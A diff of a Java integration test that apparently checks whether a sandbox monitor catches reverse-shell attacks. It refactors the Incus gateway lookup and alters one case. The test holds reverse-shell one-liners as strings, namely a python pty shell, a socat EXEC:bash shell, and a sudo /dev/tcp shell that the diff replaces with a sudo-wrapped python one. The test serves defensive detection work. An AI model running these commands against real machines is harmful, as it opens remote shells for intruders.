@@ -2,9 +2,7 @@ package coi.monitor;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import coi.incus.ExecRequest;
 import coi.incus.IncusClient;
-import coi.incus.Model;
 import coi.network.TestHosts;
 import coi.testing.CoiProcess.Result;
 import coi.testing.Sandbox;
@@ -33,9 +31,7 @@ class MonitorAttacksIT {
     @BeforeAll
     static void worldUp() throws Exception {
         try (IncusClient incus = TestIncus.client()) {
-            String gateway = incus.networks().stream().filter(n -> n.name().equals("incusbr0")).findFirst().orElseThrow()
-                    .config().get("ipv4.address").replaceAll("/.*", "");
-            hosts = new TestHosts(gateway);
+            hosts = new TestHosts(MonitorFixtures.gateway(incus));
         }
         debs = MonitorFixtures.attackTools();
     }
@@ -54,7 +50,8 @@ class MonitorAttacksIT {
         attacks.put("python pty", "python3 -c 'import socket,os,pty;s=socket.create_connection((\"" + HOST + "\"," + PORT
                 + "));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"bash\")'");
         attacks.put("socat EXEC", "socat TCP:" + HOST + ":" + PORT + " EXEC:bash,pty,stderr,setsid");
-        attacks.put("as root", "sudo bash -c 'bash -i >& /dev/tcp/" + HOST + "/" + PORT + " 0>&1'");
+        // as root, in a form whose command line does not name the peer, so that it is caught by its connection
+        attacks.put("as root", "sudo " + attacks.get("python pty"));
         try (Sandbox box = new Sandbox()) {
             Path keep = Files.writeString(box.workspace.resolve("keep.txt"), "precious\n");
             for (var attack : attacks.entrySet()) {
